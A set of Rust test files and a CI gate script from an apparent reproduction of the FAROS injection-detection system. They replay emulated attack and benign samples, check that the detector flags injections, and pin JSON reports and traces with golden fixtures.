#!/usr/bin/env bash
# Hermetic CI gate for the FAROS reproduction.
#
# The workspace is std-only: every build below runs with --offline, so the
# gate passes from a clean checkout with an empty cargo registry and no
# network. If any step here needs the network, that is itself the bug.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> warnings-as-errors build (RUSTFLAGS=-D warnings)"
RUSTFLAGS="-D warnings" cargo build --offline --workspace --all-targets

echo "==> clippy (workspace, -D warnings)"
cargo clippy --offline --workspace --all-targets -- -D warnings

echo "==> style check"
# In-tree fmt-equivalent: no tabs, no trailing whitespace, no CRLF in any
# Rust source.
if grep -rn -P '\t|[ ]+$|\r' --include='*.rs' src crates examples tests; then
    echo "error: tabs / trailing whitespace / CRLF found in Rust sources" >&2
    exit 1
fi

echo "==> cargo build --release --offline"
cargo build --release --offline

echo "==> cargo test -q --offline --workspace"
# Includes the CFI differential gates (tests/cfi_soundness.rs): zero
# violations across the whole benign corpus, >=1 per ROP/JOP reuse
# attack with taint and coverage silent, taint fusion on the
# net-assembled chain.
cargo test -q --offline --workspace

echo "==> golden fixture staleness check (regen must be a no-op)"
# Re-emitting every golden fixture must leave the working tree untouched;
# a diff here means a checked-in fixture is stale relative to the code and
# the golden tests above were comparing against yesterday's format.
FAROS_REGEN_GOLDEN=1 cargo test -q --offline \
    --test golden_roundtrip --test analyze_cli --test service_protocol >/dev/null
git diff --exit-code -- tests/fixtures \
    || { echo "error: stale golden fixtures; review and commit the regenerated files" >&2; exit 1; }

# The analyst-facing examples double as smoke tests: each must build and
# exit 0 end-to-end (record, replay, detect, report — and, for
# analyze_image, the static lint truth table).
EXAMPLES=(
    quickstart
    process_hollowing
    rat_injection
    jit_false_positive
    cuckoo_comparison
    analyst_tour
    analyze_image
    trace_replay
)
for ex in "${EXAMPLES[@]}"; do
    echo "==> cargo run --release --offline --example $ex"
    cargo run --release --offline --example "$ex" >/dev/null
done

echo "==> validate emitted Chrome trace + metrics JSON"
# trace_replay writes its exports under target/; the in-tree JSON parser
# (via faros-cli) is the validator, keeping the gate hermetic.
cargo run --release --offline -p faros-bench --bin faros-cli -- json-check \
    target/trace_replay.trace.json target/trace_replay.metrics.json

echo "==> bench suite (FAROS_BENCH_WRITE -> BENCH_replay.json)"
FAROS_BENCH_WRITE="$PWD" cargo bench --offline -p faros-bench --bench replay >/dev/null
cargo run --release --offline -p faros-bench --bin faros-cli -- json-check BENCH_replay.json
test -s BENCH_replay.json

echo "==> bench regression gate (replay_faros <= 1.5x replay_base)"
cargo run --release --offline -p faros-bench --bin faros-cli -- bench-gate BENCH_replay.json

echo "==> detonation service bench (FAROS_BENCH_WRITE -> BENCH_service.json)"
FAROS_BENCH_WRITE="$PWD" cargo bench --offline -p faros-bench --bench service >/dev/null
cargo run --release --offline -p faros-bench --bin faros-cli -- json-check BENCH_service.json
test -s BENCH_service.json

echo "==> service scaling gate (core-count-aware 4-worker speedup floor)"
cargo run --release --offline -p faros-bench --bin faros-cli -- service-gate BENCH_service.json

echo "==> bounded service soak (200 jobs, 4 workers, exact accounting)"
# The pool must drain to zero, lose no workers, drop no trace events, and
# the merged metrics must equal the fold of the per-job snapshots.
cargo run --release --offline -p faros-bench --bin faros-cli -- soak --jobs 200 --workers 4

echo "==> replay profiler smoke (two runs, byte-identical JSON)"
# The profiler's virtual clock (retired instructions) must make the
# profile a pure function of the recording: two full record+profile runs
# of the same scenario produce byte-identical reports.
cargo run --release --offline -p faros-bench --bin faros-cli -- \
    profile process_hollowing --json > target/profile_run1.json
cargo run --release --offline -p faros-bench --bin faros-cli -- \
    profile process_hollowing --json > target/profile_run2.json
cmp target/profile_run1.json target/profile_run2.json \
    || { echo "error: faros-cli profile output is not deterministic" >&2; exit 1; }
cargo run --release --offline -p faros-bench --bin faros-cli -- json-check \
    target/profile_run1.json
grep -q '"\[anon\]"' target/profile_run1.json \
    || { echo "error: hollowing profile lost its injected-code [anon] rows" >&2; exit 1; }

echo "==> service socket smoke (serve / submit / stop over target/faros.sock)"
SOCK="target/faros.sock"
# A previous aborted run can leave a stale socket file behind; the
# readiness loop below would accept it before the new server binds.
rm -f "$SOCK"
cargo run --release --offline -p faros-bench --bin faros-cli -- \
    serve --socket "$SOCK" --workers 2 &
SERVE_PID=$!
trap 'kill "$SERVE_PID" 2>/dev/null || true' EXIT
for _ in $(seq 50); do [ -S "$SOCK" ] && break; sleep 0.1; done
[ -S "$SOCK" ] || { echo "error: service socket never appeared" >&2; exit 1; }
cargo run --release --offline -p faros-bench --bin faros-cli -- \
    submit process_hollowing --socket "$SOCK" | grep "FLAGGED" >/dev/null
cargo run --release --offline -p faros-bench --bin faros-cli -- \
    submit teamviewer_v209 --socket "$SOCK" | grep "clean" >/dev/null
# Live telemetry plane: `top` pulls stats + health + metrics + trace tail
# over the same socket; two clean jobs must leave the service all green.
cargo run --release --offline -p faros-bench --bin faros-cli -- \
    top --socket "$SOCK" | grep "health: ok" >/dev/null
cargo run --release --offline -p faros-bench --bin faros-cli -- stop --socket "$SOCK"
wait "$SERVE_PID"
trap - EXIT
[ ! -S "$SOCK" ] || { echo "error: socket file not removed on shutdown" >&2; exit 1; }

echo "==> static analyze golden check (CLI output == checked-in fixture)"
# Drive the actual CLI binary over the archived demo image; the library
# path is covered by tests/analyze_cli.rs, this covers the binary glue.
cli_report="$(cargo run --release --offline -p faros-bench --bin faros-cli -- \
    analyze tests/fixtures/analyze_demo.fdl --json)"
if [ "$cli_report" != "$(cat tests/fixtures/analyze_demo_report.json)" ]; then
    echo "error: faros-cli analyze output drifted from tests/fixtures/analyze_demo_report.json" >&2
    exit 1
fi

echo "==> static/dynamic cross-check + CFI + capability truth-table gate over the corpus"
# Injectors keep >=1 statically-impossible alert and >=1 exercised
# injection recipe, family variants zero on both, every ROP/JOP reuse
# sample trips >=1 cfi-violation (taint/coverage/capability silent) with
# the benign dense-indirect foils at zero, the capability-laundering pair
# raises the impossible-capability alert while the debugger foil stays
# quiet, and the corpus-wide advisory counts (unresolved indirects,
# unresolved syscall numbers) stay on their pins.
cargo run --release --offline -p faros-bench --bin faros-cli -- analyze --corpus

echo "==> interpreter-vs-cache differential over the full corpus"
# The translation cache is mechanism, not policy: for every sample in the
# registry, the cached and interpreted replays must retire the same
# instruction count and assemble byte-identical reports across every
# section (detections, coverage, CFI, metrics, profile).
cargo run --release --offline -p faros-bench --bin faros-cli -- differential

echo "==> hermeticity check: no external dependencies in any manifest"
if grep -rn "crates-io\|serde\|proptest\|criterion\|parking_lot" crates/*/Cargo.toml Cargo.toml; then
    echo "error: external dependency reference found in a manifest" >&2
    exit 1
fi

echo "CI gate passed."
