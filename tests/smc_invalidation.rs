//! Self-modifying code vs. the translation cache.
//!
//! The benign `smc_patch_loop` corpus sample patches the immediate of an
//! already-executed routine eight times and re-calls it after every patch,
//! verifying in-guest that it never sees a stale value. Here the same
//! recording is analyzed under both execution modes:
//!
//! * the cached run must invalidate on every guest store into cached code
//!   (and be served from cache in between),
//! * the assembled reports must be byte-identical between the interpreter
//!   and the cache,
//! * and FAROS must stay silent — self-modification of a process's *own*
//!   clean bytes is not an injection signal.

use faros::{analyze_recording, AnalysisConfig};
use faros_repro::corpus::smc::smc_patch_loop;
use faros_repro::kernel::event::NullObserver;
use faros_repro::kernel::machine::ExecMode;
use faros_repro::replay::{record, replay_with_exec};

const BUDGET: u64 = 20_000_000;

#[test]
fn smc_reports_are_identical_and_the_cache_invalidates() {
    let sample = smc_patch_loop();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();

    // Raw replay under each mode: same console, and the cached machine
    // must show both invalidation and reuse traffic.
    let cached = replay_with_exec(
        &sample.scenario,
        &recording,
        BUDGET,
        ExecMode::Cached,
        &mut NullObserver,
    )
    .unwrap();
    let interp = replay_with_exec(
        &sample.scenario,
        &recording,
        BUDGET,
        ExecMode::Interpret,
        &mut NullObserver,
    )
    .unwrap();
    assert_eq!(cached.instructions, interp.instructions, "retired-instruction parity");
    assert_eq!(cached.machine.console(), interp.machine.console());
    assert!(
        cached.machine.console().iter().any(|(_, s)| s == "smc-ok"),
        "guest saw a stale patched value: {:?}",
        cached.machine.console()
    );
    let tc = cached.machine.tc_stats();
    assert!(tc.invalidations >= 8, "one invalidation per patch: {tc:?}");
    assert!(tc.hits > 0, "the patch loop must be served from cache: {tc:?}");
    let tc_interp = interp.machine.tc_stats();
    assert_eq!(
        (tc_interp.hits, tc_interp.misses, tc_interp.blocks_built),
        (0, 0, 0),
        "the interpreter must not touch the cache: {tc_interp:?}"
    );

    // Full pipeline under each mode: byte-identical reports, no detections.
    let report_for = |exec: ExecMode| {
        let cfg = AnalysisConfig { profile: true, exec, ..AnalysisConfig::default() };
        let job = analyze_recording(&sample.scenario, &recording, &cfg).unwrap();
        assert!(
            job.report.detections.is_empty(),
            "benign self-modification must not be flagged ({exec:?}): {:?}",
            job.report.detections
        );
        job.report.to_json().unwrap()
    };
    assert_eq!(
        report_for(ExecMode::Cached),
        report_for(ExecMode::Interpret),
        "cached and interpreted reports must be byte-identical"
    );
}
