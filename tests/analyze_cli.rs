//! Golden-file test for the `faros-cli analyze <image.fdl>` wire format.
//!
//! The static report JSON is a load-bearing interface (tooling diffs it,
//! CI pins it), so it must be byte-stable. The FDL demo image itself is
//! also checked in, so `scripts/ci.sh` can drive the actual CLI binary
//! over it and compare against the same golden report.
//!
//! Regenerate both fixtures after an intentional format change with:
//!
//! ```sh
//! FAROS_REGEN_GOLDEN=1 cargo test --test analyze_cli
//! ```

use faros_repro::analyze::{FindingKind, SinkKind, SourceKind, StaticReport};
use faros_repro::emu::asm::Asm;
use faros_repro::emu::isa::{Mem, Reg};
use faros_repro::emu::Perms;
use faros_repro::kernel::module::Section;
use faros_repro::kernel::nt::Sysno;
use faros_repro::kernel::FdlImage;
use std::path::{Path, PathBuf};

const BASE: u32 = 0x40_0000;
const DATA: u32 = 0x40_1000;

fn fixture_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join("fixtures").join(name)
}

/// A small image exercising every report section: a net source, a net
/// sink, a register-indirect call the VSA resolves to a constant, and an
/// indirect call through a writable data slot it (soundly) cannot.
fn demo_image() -> FdlImage {
    let mut asm = Asm::new(BASE);
    // recv(buf) -- taints the buffer (and coarse memory) with Net.
    asm.mov_ri(Reg::Eax, Sysno::NtSocketRecv as u32);
    asm.mov_ri(Reg::Ecx, DATA + 0x100);
    asm.int_syscall();
    // Constant-register indirect call: resolvable.
    asm.mov_label(Reg::Ebx, "helper");
    asm.call_reg(Reg::Ebx);
    // send(buf) -- the Net -> Net flow.
    asm.mov_ri(Reg::Eax, Sysno::NtSocketSend as u32);
    asm.mov_ri(Reg::Ecx, DATA + 0x100);
    asm.int_syscall();
    asm.hlt();
    asm.label("helper");
    // Function pointer fetched from writable data: stays unresolved.
    asm.ld4(Reg::Edx, Mem::abs(DATA));
    asm.call_reg(Reg::Edx);
    asm.ret();
    FdlImage {
        entry: BASE,
        export_table_va: 0,
        sections: vec![
            Section { va: BASE, data: asm.assemble().unwrap(), perms: Perms::RX },
            Section { va: DATA, data: vec![0; 0x200], perms: Perms::RW },
        ],
        exports: vec![],
    }
}

fn check_golden_bytes(name: &str, actual: &[u8]) {
    let path = fixture_path(name);
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read(&path).unwrap_or_else(|e| {
        panic!("missing fixture {} ({e}); regenerate with FAROS_REGEN_GOLDEN=1", path.display())
    });
    assert_eq!(
        actual,
        &expected[..],
        "{name} drifted from the golden fixture; if intentional, regenerate \
         with FAROS_REGEN_GOLDEN=1 and review the diff"
    );
}

#[test]
fn demo_image_fixture_is_current() {
    // The checked-in .fdl must be exactly what `demo_image()` builds, so
    // the CI gate and this test analyze the same bytes.
    check_golden_bytes("analyze_demo.fdl", &demo_image().to_bytes());
}

#[test]
fn static_report_json_is_byte_stable_and_lossless() {
    // Same module name the CLI derives from the fixture path.
    let report = StaticReport::build("analyze_demo.fdl", &demo_image());
    let json = report.to_json().unwrap();
    check_golden_bytes("analyze_demo_report.json", json.as_bytes());

    let restored = StaticReport::from_json(&json).unwrap();
    assert_eq!(restored, report);
}

#[test]
fn demo_report_has_the_expected_shape() {
    let report = StaticReport::build("analyze_demo.fdl", &demo_image());
    // The constant-register call resolves; the data-pointer call cannot.
    assert_eq!(report.resolved_sites.len(), 1);
    assert_eq!(
        report
            .findings
            .iter()
            .filter(|f| f.kind == FindingKind::UnresolvedIndirect)
            .count(),
        1
    );
    assert_eq!(report.errors().count(), 0);
    // recv -> send is a feasible net-to-net flow.
    assert!(report
        .flows
        .flows
        .iter()
        .any(|f| f.source == SourceKind::Net && f.sink == SinkKind::Net));
}

#[test]
fn checked_in_fdl_parses_and_reanalyzes_to_the_golden_report() {
    // The path `scripts/ci.sh` exercises through the CLI binary, minus the
    // process spawn: parse the archived image, analyze, compare bytes.
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        return; // fixtures are being rewritten by the sibling tests
    }
    let bytes = std::fs::read(fixture_path("analyze_demo.fdl"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let image = FdlImage::parse(&bytes).unwrap();
    let json = StaticReport::build("analyze_demo.fdl", &image).to_json().unwrap();
    let expected = std::fs::read_to_string(fixture_path("analyze_demo_report.json")).unwrap();
    assert_eq!(json, expected);
}
