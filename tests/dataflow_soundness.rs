//! The VSA soundness differential check.
//!
//! The static dataflow engine claims, for every indirect call/jump site it
//! resolves, a *complete* target set ("soundly coarse": the enumeration
//! over-approximates). The replay side records the target every indirect
//! branch actually took ([`BlockCoverage::indirect_targets`]), so the
//! claim is testable: across the whole corpus, no dynamically observed
//! target at a resolved site may fall outside the statically resolved
//! set. FDL images are position-dependent, so static VAs and runtime VAs
//! coincide and the comparison is exact.
//!
//! Sites the engine leaves unresolved, and sites in dynamically
//! materialized code (no static model exists), make no claim and are
//! skipped.

use faros_repro::analyze;
use faros_repro::corpus::sample_registry;
use faros_repro::replay::{record, replay, BlockCoverage, Scenario as _};
use std::collections::BTreeMap;

const BUDGET: u64 = 20_000_000;

#[test]
fn observed_indirect_targets_are_contained_in_resolved_sets() {
    let mut sites_checked = 0usize;
    let mut targets_checked = 0usize;
    for sample in sample_registry() {
        let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
        let mut blocks = BlockCoverage::new();
        replay(&sample.scenario, &recording, BUDGET, &mut blocks).unwrap();
        let images = analyze::image_map(
            sample.scenario.programs().iter().map(|(p, i)| (p.as_str(), i.clone())),
        );
        let analyses: BTreeMap<&String, analyze::ImageDataflow> =
            images.iter().map(|(n, i)| (n, analyze::analyze_image(n, i))).collect();
        for proc in blocks.into_processes() {
            for (site, observed) in &proc.indirect_targets {
                // The site must be inside a statically modeled image
                // (injected code has no model) ...
                let Some((_, analysis)) =
                    analyses.iter().find(|(n, _)| images[**n].is_code_va(*site))
                else {
                    continue;
                };
                // ... and the engine must have claimed a target set.
                let Some(resolved) = analysis.cfg.resolved_targets.get(site) else {
                    continue;
                };
                sites_checked += 1;
                for t in observed {
                    targets_checked += 1;
                    assert!(
                        resolved.contains(t),
                        "{}: site {site:#010x} branched to {t:#010x}, outside the \
                         statically resolved set {resolved:x?} — the VSA is unsound here",
                        sample.scenario.name(),
                    );
                }
            }
        }
    }
    // The check is vacuous if nothing was compared; keep a floor so a
    // regression that stops resolving (or stops recording) sites fails
    // loudly instead of silently passing.
    assert!(
        sites_checked >= 10,
        "expected >=10 dynamically exercised resolved sites across the corpus, \
         got {sites_checked} ({targets_checked} targets)"
    );
}
