//! Workspace-level integration tests: the full pipeline through the
//! `faros-repro` facade.

use faros_repro::baselines;
use faros_repro::corpus::{attacks, families, jit};
use faros_repro::faros::{Faros, Policy};
use faros_repro::replay::{record, record_and_replay, replay, Recording};

const BUDGET: u64 = 20_000_000;

#[test]
fn quickstart_pipeline_flags_the_attack() {
    let sample = attacks::reflective_dll_inject();
    let mut faros = Faros::new(Policy::paper());
    let (_recording, outcome) =
        record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
    assert_eq!(outcome.exit, faros_repro::kernel::RunExit::AllExited);
    let report = faros.report();
    assert!(report.attack_flagged());
    assert_eq!(report.flagged_processes(), vec!["notepad.exe"]);
}

#[test]
fn replay_is_deterministic_across_runs() {
    // Two independent replays of the same recording must produce identical
    // FAROS reports, instruction counts, and console output.
    let sample = attacks::darkcomet_rat();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();

    let run = |policy: Policy| {
        let mut faros = Faros::new(policy);
        let outcome = replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
        let console: Vec<String> =
            outcome.machine.console().iter().map(|(_, s)| s.clone()).collect();
        (faros.report(), outcome.instructions, console)
    };
    let (report_a, instr_a, console_a) = run(Policy::paper());
    let (report_b, instr_b, console_b) = run(Policy::paper());
    assert_eq!(report_a, report_b);
    assert_eq!(instr_a, instr_b);
    assert_eq!(console_a, console_b);
}

#[test]
fn recording_round_trips_through_json() {
    let sample = attacks::reverse_tcp_dns();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let json = recording.to_json().unwrap();
    let restored = Recording::from_json(&json).unwrap();
    assert_eq!(recording, restored);

    // A replay from the restored recording still detects the attack.
    let mut faros = Faros::new(Policy::paper());
    replay(&sample.scenario, &restored, BUDGET, &mut faros).unwrap();
    assert!(faros.report().attack_flagged());
}

#[test]
fn recording_saves_to_disk_and_loads() {
    let sample = attacks::bypassuac_injection();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let dir = std::env::temp_dir().join("faros-repro-test");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("bypassuac.recording.json");
    recording.save(&path).unwrap();
    let loaded = Recording::load(&path).unwrap();
    assert_eq!(recording, loaded);
    std::fs::remove_file(&path).ok();
}

#[test]
fn faros_report_round_trips_through_json() {
    let sample = attacks::process_hollowing();
    let mut faros = Faros::new(Policy::paper());
    record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
    let report = faros.report();
    let json = report.to_json().unwrap();
    let restored = faros_repro::faros::FarosReport::from_json(&json).unwrap();
    assert_eq!(report, restored);
}

#[test]
fn plugin_manager_stacks_faros_with_cuckoo() {
    // FAROS and the Cuckoo-style sandbox observe the same replay through
    // the plugin manager — the PANDA-style multi-plugin workflow.
    use faros_repro::replay::PluginManager;
    let sample = attacks::njrat_rat();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let mut manager = PluginManager::new();
    manager.register(Box::new(Faros::new(Policy::paper())));
    manager.register(Box::new(baselines::CuckooSandbox::new()));
    replay(&sample.scenario, &recording, BUDGET, &mut manager).unwrap();
    assert_eq!(manager.plugin_names(), vec!["faros", "cuckoo"]);
    // Both plugins saw the run: extract and check.
    let faros_plugin = manager.take("faros").unwrap();
    drop(faros_plugin); // results checked via the single-plugin path below
    let mut faros = Faros::new(Policy::paper());
    replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
    assert!(faros.report().attack_flagged());
}

#[test]
fn full_corpus_ground_truth_confusion_matrix() {
    // A compact version of the paper's overall result: all injecting
    // samples detected, zero FPs outside the JIT class, exactly two JIT
    // FPs.
    let mut true_positives = 0u32;
    let mut false_negatives = 0u32;
    for sample in attacks::all_injecting_samples() {
        let mut faros = Faros::new(Policy::paper());
        record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
        if faros.report().attack_flagged() {
            true_positives += 1;
        } else {
            false_negatives += 1;
        }
    }
    assert_eq!((true_positives, false_negatives), (9, 0));

    // Spot-check the negative classes (the full sweeps run in
    // crates/corpus/tests/false_positives.rs and the bench harness).
    let mut fp = 0u32;
    for sample in families::fp_dataset().iter().take(10) {
        let mut faros = Faros::new(Policy::paper());
        record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
        fp += u32::from(faros.report().attack_flagged());
    }
    assert_eq!(fp, 0);

    let mut jit_fp = 0u32;
    for sample in jit::jit_workloads() {
        let mut faros = Faros::new(Policy::paper());
        record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
        jit_fp += u32::from(faros.report().attack_flagged());
    }
    assert_eq!(jit_fp, 2);
}

#[test]
fn detection_truth_table_matches_per_sample_ground_truth() {
    // The paper's evaluation as an explicit per-sample truth table: every
    // injecting attack must be flagged, one variant of every Table-IV
    // family (malware and benign) must not be, and of the 20 Table-III JIT
    // workloads exactly the two copy-and-patch applets are expected false
    // positives. Unlike the aggregate confusion matrix above, a mismatch
    // here names the exact sample that flipped.
    use faros_repro::corpus::jit::FLAGGED_APPLETS;
    use faros_repro::corpus::Sample;

    let mut table: Vec<(Sample, bool)> = Vec::new();
    for sample in attacks::all_injecting_samples() {
        table.push((sample, true));
    }
    for family in families::malware_rows().iter().chain(families::benign_rows().iter()) {
        table.push((families::build_family_sample(family, 0, 1), false));
    }
    for sample in jit::jit_workloads() {
        let expected = FLAGGED_APPLETS.iter().any(|a| sample.name() == format!("jit_{a}"));
        table.push((sample, expected));
    }
    assert_eq!(table.len(), 9 + 17 + 4 + 20);

    let mut mismatches: Vec<String> = Vec::new();
    for (sample, expected) in &table {
        // Ground-truth sanity: outside the known JIT FP class, the
        // expectation must agree with the sample's own category label.
        if sample.category != faros_repro::corpus::Category::Jit {
            assert_eq!(
                *expected,
                sample.category.should_flag(),
                "truth table disagrees with category label for {}",
                sample.name()
            );
        }
        let mut faros = Faros::new(Policy::paper());
        record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
        let flagged = faros.report().attack_flagged();
        if flagged != *expected {
            mismatches.push(format!(
                "{}: expected flagged={expected}, got {flagged}",
                sample.name()
            ));
        }
    }
    assert!(
        mismatches.is_empty(),
        "detection truth table mismatches:\n{}",
        mismatches.join("\n")
    );
}

#[test]
fn malfind_scan_works_through_facade() {
    let sample = attacks::reflective_dll_inject();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let mut sink = faros_repro::kernel::NullObserver;
    let outcome = replay(&sample.scenario, &recording, BUDGET, &mut sink).unwrap();
    let report = baselines::scan(&outcome.machine);
    assert!(report.detects_injection());
}
