//! Acceptance tests for the observability layer: replaying a recording with
//! the flight recorder attached must produce a deterministic,
//! Perfetto-shaped Chrome trace and a metrics snapshot with the
//! whole-system counters the paper's evaluation leans on.

use faros_repro::corpus::attacks;
use faros_repro::faros::{Faros, Policy};
use faros_repro::obs::metrics::MetricsSnapshot;
use faros_repro::obs::trace::RecorderHandle;
use faros_repro::replay::{record, replay, PluginManager, Recording, TraceRecorder};
use faros_repro::support::json::JsonValue;
use faros_repro::taint::engine::PropagationMode;

const BUDGET: u64 = 20_000_000;

/// Replays `recording` under a full observability stack and returns the
/// Chrome trace export plus the merged metrics snapshot.
fn traced_replay(
    sample: &faros_repro::corpus::scenario::Sample,
    recording: &Recording,
) -> (String, MetricsSnapshot) {
    let ring = RecorderHandle::default();
    let mut faros = Faros::with_mode(Policy::paper(), PropagationMode::with_address_deps());
    faros.attach_recorder(ring.clone());
    let mut plugins = PluginManager::new();
    plugins.register(Box::new(TraceRecorder::new(ring.clone())));
    plugins.register(Box::new(faros));
    replay(&sample.scenario, recording, BUDGET, &mut plugins).unwrap();

    let tracer = plugins.take_as::<TraceRecorder>(TraceRecorder::NAME).unwrap();
    let mut faros = plugins.take_as::<Faros>("faros").unwrap();
    let mut metrics = faros.metrics_snapshot();
    metrics.merge(&tracer.metrics_snapshot());
    metrics.merge(&plugins.metrics_snapshot());
    (ring.export_chrome(), metrics)
}

/// Events of the parsed trace as (name, cat, ph, pid, tid) tuples.
fn events(trace: &JsonValue) -> Vec<(String, String, String, i128, i128)> {
    trace
        .get("traceEvents")
        .and_then(JsonValue::as_array)
        .unwrap()
        .iter()
        .map(|e| {
            let s = |k: &str| e.get(k).and_then(JsonValue::as_str).unwrap().to_string();
            let n = |k: &str| e.get(k).and_then(JsonValue::as_int).unwrap();
            (s("name"), s("cat"), s("ph"), n("pid"), n("tid"))
        })
        .collect()
}

#[test]
fn traced_replay_emits_the_acceptance_events_and_counters() {
    let sample = attacks::process_hollowing();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let (trace_json, metrics) = traced_replay(&sample, &recording);

    let trace = JsonValue::parse(&trace_json).expect("chrome export parses");
    let evs = events(&trace);
    assert!(!evs.is_empty());

    // Syscall spans: balanced B/E pairs in the syscall category.
    let begins = evs.iter().filter(|e| e.1 == "syscall" && e.2 == "B").count();
    let ends = evs.iter().filter(|e| e.1 == "syscall" && e.2 == "E").count();
    assert!(begins > 0, "no syscall spans in trace");
    assert_eq!(begins, ends, "unbalanced syscall spans");

    // Context-switch instants.
    assert!(
        evs.iter().any(|e| e.0 == "context_switch" && e.2 == "i"),
        "no context-switch instants"
    );

    // Taint-alert instants carry a real (pid, tid) attribution.
    let alert = evs
        .iter()
        .find(|e| e.1 == "taint" && e.0 == "alert" && e.2 == "i")
        .expect("no taint-alert instant");
    assert!(alert.3 > 0, "taint alert not attributed to a pid");

    // Whole-system counters the evaluation leans on are all live.
    for name in ["cpu.instructions", "syscalls.total", "taint.unions"] {
        let v = metrics.counter(name).unwrap_or(0);
        assert!(v > 0, "counter {name} is zero");
    }
}

#[test]
fn two_replays_export_byte_identical_traces_and_metrics() {
    let sample = attacks::process_hollowing();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();

    let (trace_a, metrics_a) = traced_replay(&sample, &recording);
    let (trace_b, metrics_b) = traced_replay(&sample, &recording);

    assert_eq!(trace_a, trace_b, "trace exports diverged across replays");
    assert_eq!(metrics_a, metrics_b, "metrics snapshots diverged across replays");
}

#[test]
fn report_metrics_section_round_trips_through_json() {
    let sample = attacks::reflective_dll_inject();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();

    let mut faros = Faros::new(Policy::paper());
    replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
    let mut report = faros.report();
    report.attach_metrics(faros.metrics_snapshot());

    assert!(report.metrics.counter("faros.instructions").unwrap_or(0) > 0);
    let json = report.to_json().unwrap();
    let restored = faros_repro::faros::FarosReport::from_json(&json).unwrap();
    assert_eq!(restored, report);
}
