//! Golden-file serialization tests: the JSON wire formats for analyst
//! reports and recordings are load-bearing interfaces (analysts archive
//! recordings; tooling diffs reports), so they must be *byte-stable*
//! across refactors, not merely round-trippable.
//!
//! The fixtures live in `tests/fixtures/`. If an intentional format change
//! invalidates them, regenerate with:
//!
//! ```sh
//! FAROS_REGEN_GOLDEN=1 cargo test --test golden_roundtrip
//! ```
//!
//! and review the resulting diff like any other API change.

use faros_repro::corpus::attacks;
use faros_repro::faros::{Faros, FarosReport, Policy};
use faros_repro::replay::{record, record_and_replay, Recording};
use std::path::{Path, PathBuf};

const BUDGET: u64 = 20_000_000;

fn fixture_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join("fixtures").join(name)
}

/// Compares `actual` against the checked-in fixture, or rewrites the
/// fixture when `FAROS_REGEN_GOLDEN` is set.
fn check_golden(name: &str, actual: &str) {
    let path = fixture_path(name);
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "missing fixture {} ({e}); regenerate with FAROS_REGEN_GOLDEN=1",
            path.display()
        )
    });
    assert_eq!(
        actual,
        expected,
        "serialized {name} drifted from the golden fixture; if the format \
         change is intentional, regenerate with FAROS_REGEN_GOLDEN=1 and \
         review the diff"
    );
}

#[test]
fn report_json_is_byte_stable_and_lossless() {
    let sample = attacks::process_hollowing();
    let mut faros = Faros::new(Policy::paper());
    record_and_replay(&sample.scenario, BUDGET, &mut faros).unwrap();
    let report = faros.report();

    let json = report.to_json().unwrap();
    check_golden("report_process_hollowing.json", &json);

    // Lossless: the parsed fixture equals the freshly computed report.
    let restored = FarosReport::from_json(&json).unwrap();
    assert_eq!(report, restored);
}

#[test]
fn report_fixture_parses_and_is_flagged() {
    // The checked-in fixture itself (not just this build's serialization)
    // must stay parseable — it stands in for reports archived by analysts
    // under earlier builds.
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        return; // fixtures are being rewritten by the sibling tests
    }
    let text = std::fs::read_to_string(fixture_path("report_process_hollowing.json"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let report = FarosReport::from_json(&text).unwrap();
    assert!(report.attack_flagged());
    assert!(!report.detections.is_empty());
}

#[test]
fn recording_json_is_byte_stable_and_lossless() {
    let sample = attacks::reverse_tcp_dns();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();

    let json = recording.to_json().unwrap();
    check_golden("recording_reverse_tcp_dns.json", &json);

    let restored = Recording::from_json(&json).unwrap();
    assert_eq!(recording, restored);
}

#[test]
fn recording_fixture_replays_to_the_same_verdict() {
    // An archived recording must stay replayable: load the checked-in
    // fixture and confirm the attack is still detected from it.
    if std::env::var("FAROS_REGEN_GOLDEN").is_ok() {
        return; // fixtures are being rewritten by the sibling tests
    }
    let text = std::fs::read_to_string(fixture_path("recording_reverse_tcp_dns.json"))
        .expect("fixture must exist; regenerate with FAROS_REGEN_GOLDEN=1");
    let recording = Recording::from_json(&text).unwrap();
    let sample = attacks::reverse_tcp_dns();
    let mut faros = Faros::new(Policy::paper());
    faros_repro::replay::replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
    assert!(faros.report().attack_flagged());
}
