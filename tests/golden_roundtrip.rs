//! Golden-file serialization tests: the JSON wire formats for analyst
//! reports and recordings are load-bearing interfaces (analysts archive
